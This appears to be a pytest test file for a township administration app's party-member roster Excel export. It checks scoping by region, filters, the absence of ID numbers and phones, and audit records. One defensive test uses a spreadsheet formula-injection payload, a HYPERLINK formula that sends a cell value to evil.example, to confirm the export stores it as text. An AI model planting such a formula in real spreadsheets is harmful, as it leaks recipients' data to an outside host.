"""党员名册 export: what each sheet holds, whose rows, its filters, no ID or phone, no formulas, audited, and a
constant number of queries."""

import datetime as dt
import io
import zipfile
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from tests.factories import signed_in_client
from tests.people import factories as pf
from tests.privacy.scan import birth_dates, clear_ids, clear_phones
from xiangzhi.audit.models import AuditRecord
from xiangzhi.core import clock
from xiangzhi.party import excel, services
from xiangzhi.regions.services import region_create

pytestmark = pytest.mark.django_db

URL = "/party/roster/export.xlsx"
TODAY = dt.date(2026, 3, 1)


@pytest.fixture(autouse=True)
def _today():
    clock.set_fixed(dt.datetime(2026, 3, 1, 2, 0, tzinfo=dt.UTC))


@pytest.fixture
def roster(township):
    """Village A: a 联村党总支 with a branch below it; village B: its own branch; another town with one more.
    Members from residents (with phones) and by name only; one 预备, one 流动, one no longer on the roll."""
    town = services.party_org_create(
        user=None, name="尉庄乡党委", kind="town_committee", region=township.town
    )
    general = services.party_org_create(
        user=None, name="南山党总支", kind="general_branch", region=township.village_a, parent=town
    )
    branch_a = services.party_org_create(
        user=None, name="南山第一支部", kind="branch", region=township.village_a, parent=general
    )
    branch_b = services.party_org_create(
        user=None, name="北坡支部", kind="branch", region=township.village_b, parent=town
    )
    other_town = region_create(code="141029202", name="关王庙乡", parent=township.county)
    other_village = region_create(code="141029202201", name="河西村", parent=other_town)
    other_grid = region_create(code="141029202201001", name="河西一网格", parent=other_village)
    other_committee = services.party_org_create(
        user=None, name="关王庙乡党委", kind="town_committee", region=other_town
    )
    other_branch = services.party_org_create(
        user=None, name="河西支部", kind="branch", region=other_village, parent=other_committee
    )

    def resident_member(org, grid, name, *, sex="M", birth=dt.date(1960, 5, 1), **kw):
        home = pf.household(grid, head_name=name, sex=sex, birth=birth, phone=pf.phone())
        return services.party_member_add(user=None, org=org, resident=home.head, **kw)

    zhang = resident_member(
        general, township.grid_a1, "张总支", sex="F", birth=dt.date(1960, 3, 2), joined_on=dt.date(1985, 7, 1)
    )
    li = resident_member(
        branch_a, township.grid_a2, "李预备", birth=dt.date(1996, 3, 2), status="probationary"
    )
    wang = services.party_member_add(user=None, org=branch_a, name="王流动", is_mobile=True)
    gone = services.party_member_add(user=None, org=branch_a, name="赵不在册")
    services.party_member_deactivate(user=None, member=gone)
    zhao = resident_member(branch_b, township.grid_b1, "北坡党员")
    resident_member(other_branch, other_grid, "河西党员")

    h1 = pf.household(township.grid_a1, head_name="联系户甲", address="南山村1号", phone=pf.phone())
    h2 = pf.household(township.grid_a2, head_name="联系户乙", address="南山村2号", phone=pf.phone())
    hb = pf.household(township.grid_b1, head_name="北坡联系户", address="北坡村9号", phone=pf.phone())
    services.household_link_add(user=None, member=zhang, household=h1, since=dt.date(2025, 1, 15))
    services.household_link_add(user=None, member=zhang, household=h2, since=dt.date(2025, 2, 1))
    services.household_link_add(user=None, member=zhao, household=hb)
    return {
        "town": town,
        "general": general,
        "branch_a": branch_a,
        "branch_b": branch_b,
        "other_branch": other_branch,
        "members": {"zhang": zhang, "li": li, "wang": wang, "zhao": zhao},
    }


def _sheets(content: bytes) -> dict[str, list[tuple]]:
    wb = load_workbook(io.BytesIO(content))
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in wb.worksheets}


def _export(user, query: str = ""):
    response = signed_in_client(user).get(URL + query)
    assert response.status_code == 200, response.content.decode()[:300]
    return response


def _names(content: bytes) -> list[str]:
    return [row[1] for row in _sheets(content)["党员名册"][1:]]


def test_the_roster_and_its_links_as_a_village_secretary_sees_them(township, make_user, roster):
    secretary = make_user("village_secretary", township.village_a)
    response = _export(secretary)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''" + quote("党员名册_20260301.xlsx")
    )
    sheets = _sheets(response.content)
    assert list(sheets) == ["党员名册", "党员联户"]
    assert sheets["党员名册"] == [
        ("党组织", "姓名", "性别", "年龄", "类别", "流动党员", "入党日期", "联系户数"),
        ("南山党总支", "张总支", "女", 65, "正式党员", "否", dt.datetime(1985, 7, 1), 2),
        ("南山第一支部", "王流动", None, None, "正式党员", "是", None, 0),
        ("南山第一支部", "李预备", "男", 29, "预备党员", "否", None, 0),
    ]
    assert sheets["党员联户"] == [
        ("党员", "所在党组织", "户主", "住址", "网格", "联系起始"),
        ("张总支", "南山党总支", "联系户甲", "南山村1号", "南山村第一网格", dt.datetime(2025, 1, 15)),
        ("张总支", "南山党总支", "联系户乙", "南山村2号", "南山村第二网格", dt.datetime(2025, 2, 1)),
    ]


def test_age_turns_on_the_birthday(township, make_user, roster):
    """李预备 was born 1996-03-02: 29 on the fixture's today (2026-03-01), 30 from the next day (Shanghai time)."""
    secretary = make_user("village_secretary", township.village_a)
    ages = {row[1]: row[3] for row in _sheets(_export(secretary).content)["党员名册"][1:]}
    assert ages["李预备"] == 29
    with clock.frozen(dt.datetime(2026, 3, 1, 16, 30, tzinfo=dt.UTC)):  # 2026-03-02 00:30 in Shanghai
        ages = {row[1]: row[3] for row in _sheets(_export(secretary).content)["党员名册"][1:]}
    assert ages["李预备"] == 30 and ages["张总支"] == 66


def test_a_town_leader_gets_his_town_and_never_another(township, make_user, roster):
    leader = make_user("town_leader", township.town)
    names = _names(_export(leader).content)
    assert sorted(names) == sorted(["张总支", "王流动", "李预备", "北坡党员"])
    assert "河西党员" not in names and "赵不在册" not in names


def test_the_filters_a_secretary_would_try_never_reach_another_village(township, make_user, roster):
    secretary = make_user("village_secretary", township.village_a)
    client = signed_in_client(secretary)
    # another village's org by its number: an audited 404, and nothing of it in any answer
    for org in (roster["branch_b"], roster["other_branch"]):
        denials = AuditRecord.objects.filter(result=AuditRecord.RESULT_DENIED).count()
        response = client.get(f"{URL}?org={org.pk}")
        assert response.status_code == 404
        assert AuditRecord.objects.filter(result=AuditRecord.RESULT_DENIED).count() == denials + 1
    # the town committee is out of the secretary's reach too (it sits above the village)
    assert client.get(f"{URL}?org={roster['town'].pk}").status_code == 404
    # another village's or town's code as the region filter: an empty roster, not theirs
    for code in (township.village_b.code, township.grid_b1.code, "141029202", "141029202201"):
        content = _export(secretary, f"?region={code}").content
        assert _names(content) == [], code
        assert "北坡" not in _text(content) and "河西" not in _text(content), code
    # the control: the own village's code finds the own rows
    assert len(_names(_export(secretary, f"?region={township.village_a.code}").content)) == 3


def test_org_filter_takes_the_org_and_those_below_it(township, make_user, roster):
    leader = make_user("town_leader", township.town)
    response = _export(leader, f"?org={roster['general'].pk}")
    assert sorted(_names(response.content)) == ["张总支", "李预备", "王流动"]
    assert response["Content-Disposition"].endswith(quote("党员名册_南山党总支_20260301.xlsx"))
    assert sorted(_names(_export(leader, f"?org={roster['branch_a'].pk}").content)) == ["李预备", "王流动"]
    assert _names(_export(leader, f"?org={roster['branch_b'].pk}").content) == ["北坡党员"]
    assert len(_names(_export(leader, f"?org={roster['town'].pk}").content)) == 4
    # links follow the members chosen
    links = _sheets(_export(leader, f"?org={roster['branch_b'].pk}").content)["党员联户"]
    assert [r[:3] for r in links[1:]] == [("北坡党员", "北坡支部", "北坡联系户")]


def test_status_and_mobile_filters(township, make_user, roster):
    leader = make_user("town_leader", township.town)
    assert _names(_export(leader, "?status=probationary").content) == ["李预备"]
    assert sorted(_names(_export(leader, "?status=full").content)) == ["北坡党员", "张总支", "王流动"]
    assert _names(_export(leader, "?mobile=1").content) == ["王流动"]
    assert "王流动" not in _names(_export(leader, "?mobile=0").content)
    assert _names(_export(leader, "?status=full&mobile=1").content) == ["王流动"]
    assert (
        len(_names(_export(leader, "?status=bogus&mobile=maybe").content)) == 4
    )  # unknown values: no filter


def _text(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist())


def test_no_id_number_phone_or_birth_date_in_the_file(township, make_user, roster):
    """Even for a secretary who may reveal them: the roster has no such column at all."""
    from xiangzhi.people.models import Resident

    residents = list(Resident.objects.all())
    phones = {str(r.phone) for r in residents if r.phone}
    assert len(phones) >= 7
    secretary = make_user("village_secretary", township.village_a)
    leader = make_user("town_leader", township.town)
    for user in (secretary, leader):
        raw = _text(_export(user).content).encode()
        assert clear_ids(raw) == set()
        assert clear_phones(raw, phones) == set()
        assert birth_dates(raw, {r.birth_date for r in residents}) == set()
        assert "**" not in raw.decode()  # not even the masked forms
    # positive control: the same scan over the people register export of the same secretary (who may reveal)
    # finds the full IDs of village A, so a roster that carried them would have been caught
    revealed = _text(signed_in_client(secretary).get("/people/register/export.xlsx").content).encode()
    village_a_ids = {str(r.id_number) for r in residents if r.region_code.startswith(township.village_a.code)}
    assert clear_ids(revealed) == village_a_ids and len(village_a_ids) == 4


FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击")'


def test_typed_text_is_never_a_formula(township, make_user):
    town = services.party_org_create(user=None, name="=1+1", kind="town_committee", region=township.town)
    org = services.party_org_create(
        user=None, name=FORMULA, kind="branch", region=township.village_a, parent=town
    )
    member = services.party_member_add(user=None, org=org, name="=2+2")
    h = pf.household(township.grid_a1, head_name="=3+3", address=FORMULA)
    services.household_link_add(user=None, member=member, household=h)
    odd = services.party_member_add(user=None, org=org, name="响铃\x07党员")  # a control character
    assert odd.pk
    content = _export(make_user("village_secretary", township.village_a)).content
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets_xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets_xml
    sheets = _sheets(content)
    assert sorted(r[1] for r in sheets["党员名册"][1:]) == sorted(["=2+2", "响铃\ufffd党员"])
    assert sheets["党员联户"][1][:4] == ("=2+2", FORMULA, "=3+3", FORMULA)


def test_the_export_is_audited_with_counts_and_filters_only(township, make_user, roster):
    secretary = make_user("village_secretary", township.village_a)
    _export(secretary)
    rec = AuditRecord.objects.get(action="party.roster_exported")
    assert (rec.actor_id, rec.result, rec.region_code, rec.object_repr, rec.ip) == (
        secretary.pk,
        AuditRecord.RESULT_OK,
        township.village_a.code,
        "党员名册",
        "10.1.1.1",
    )
    assert rec.changes == {
        "members": 3,
        "links": 2,
        "filter_org": None,
        "filter_status": "",
        "filter_mobile": None,
        "filter_region": "",
    }
    leader = make_user("town_leader", township.town)
    _export(leader, f"?org={roster['branch_a'].pk}&status=probationary&mobile=0")
    rec = AuditRecord.objects.filter(action="party.roster_exported").latest("id")
    assert rec.object_repr == "党员名册（南山第一支部）" and rec.object_id == str(roster["branch_a"].pk)
    assert rec.region_code == township.village_a.code
    assert rec.changes == {
        "members": 1,
        "links": 0,
        "filter_org": roster["branch_a"].pk,
        "filter_status": "probationary",
        "filter_mobile": False,
        "filter_region": "",
    }


def test_the_record_stays_in_the_users_county_whatever_region_is_typed(township, make_user, roster):
    secretary = make_user("village_secretary", township.village_a)
    for typed, chain_region in (
        ("141030101201", township.village_a.code),  # another county's village: not filed there
        (township.village_b.code, township.village_a.code),  # a sibling village: out of reach too
        (township.grid_a2.code, township.grid_a2.code),  # within reach: the record names it
    ):
        _export(secretary, f"?region={typed}")
        rec = AuditRecord.objects.filter(action="party.roster_exported").latest("id")
        assert (rec.region_code, rec.chain, rec.changes["filter_region"]) == (chain_region, "141029", typed)


def test_refused_without_party_export_and_audited(township, make_user, roster):
    mediator = make_user("mediator", township.village_a)  # sees people, not the party
    member = make_user(
        "party_member", township.village_a
    )  # sees the party pages, may not take the roster away
    for user in (mediator, member):
        client = signed_in_client(user)
        response = client.get(URL)
        assert response.status_code == 403
        assert "/party/roster/export.xlsx" not in client.get("/party/orgs/").content.decode()
    assert not AuditRecord.objects.filter(action="party.roster_exported").exists()
    assert AuditRecord.objects.filter(action="party.export", result=AuditRecord.RESULT_DENIED).count() == 2
    assert client.post(URL).status_code == 405


def test_export_links_on_the_list_and_org_pages(township, make_user, roster):
    client = signed_in_client(make_user("village_secretary", township.village_a))
    body = client.get("/party/orgs/").content.decode()
    assert f'action="{URL}"' in body and "导出 Excel" in body
    assert f'<option value="{roster["general"].pk}">南山党总支</option>' in body
    assert f'value="{roster["branch_b"].pk}"' not in body
    body = client.get(f"/party/orgs/{roster['general'].pk}/").content.decode()
    assert f'href="{URL}?org={roster["general"].pk}"' in body


def _bigger_roster(township, n: int):
    town = services.party_org_create(user=None, name="乡党委", kind="town_committee", region=township.town)
    orgs = [
        services.party_org_create(user=None, name=f"支部{i}", kind="branch", region=village, parent=town)
        for i, village in enumerate((township.village_a, township.village_b))
    ]
    for i in range(n):
        grid = (township.grid_a1, township.grid_b1)[i % 2]
        home = pf.household(grid, head_name=f"党员{i}")
        member = services.party_member_add(user=None, org=orgs[i % 2], resident=home.head)
        services.household_link_add(
            user=None, member=member, household=pf.household(grid, head_name=f"户{i}")
        )
        services.party_member_add(user=None, org=orgs[i % 2], name=f"无居民{i}")


def test_query_count_does_not_grow_with_the_roster(township, make_user, django_assert_num_queries):
    from xiangzhi import policy

    leader = make_user("town_leader", township.town)
    policy.assignments(leader)  # cached on the user, as in a request
    # members, links; then the audit record (chain head lock, insert, head update; no savepoint)
    _bigger_roster(township, 2)
    with django_assert_num_queries(5):
        small = excel.roster_export(user=leader)
    _bigger_roster(township, 12)
    with django_assert_num_queries(5):
        large = excel.roster_export(user=leader)
    assert (small.members, small.links) == (4, 2)
    assert (large.members, large.links) == (28, 14)
